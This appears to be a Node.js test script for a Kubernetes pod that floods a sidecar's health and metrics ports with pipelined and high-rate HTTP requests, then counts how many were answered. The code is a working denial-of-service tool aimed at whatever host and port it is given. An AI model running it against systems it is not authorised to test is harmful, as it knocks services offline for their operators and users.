// Attacks the port of a sidecar from a pod: `node - pipelined HOST PORT` or `node - flood HOST PORT`.
// Prints how many connections it made and how many of them were answered.
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

const [mode, host, port] = process.argv.slice(2);
const PATHS = ["/livez", "/readyz", "/status", "/metrics"];
const request = (path) => `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`;

/** Resolves with whether anything was answered, once the connection is closed. */
function send(text) {
  return new Promise((resolve) => {
    const socket = connect({ host, port: Number(port) });
    let answered = false;
    socket.on("data", () => {
      answered = true;
    });
    socket.on("error", () => {});
    socket.on("close", () => resolve(answered));
    socket.setTimeout(10_000, () => socket.destroy());
    socket.write(text);
  });
}

/** 40 connections of 62 KB of requests on each path. */
async function pipelined() {
  const all = [];
  for (const path of PATHS) {
    const text = request(path).repeat(Math.ceil(62_000 / request(path).length));
    const connections = Array.from({ length: 40 }, () => send(text));
    await Promise.all(connections);
    all.push(...connections);
  }
  return all;
}

/** 1,000 requests a second for 10 s. */
async function flood() {
  const all = [];
  const startedAt = performance.now();
  while (all.length < 10_000) {
    const due = Math.min(10_000, performance.now() - startedAt);
    while (all.length < due) all.push(send(request(PATHS[all.length % PATHS.length])));
    await sleep(5);
  }
  return all;
}

const answers = await Promise.all(await { pipelined, flood }[mode]());
process.stdout.write(`${answers.length} ${answers.filter(Boolean).length}\n`);
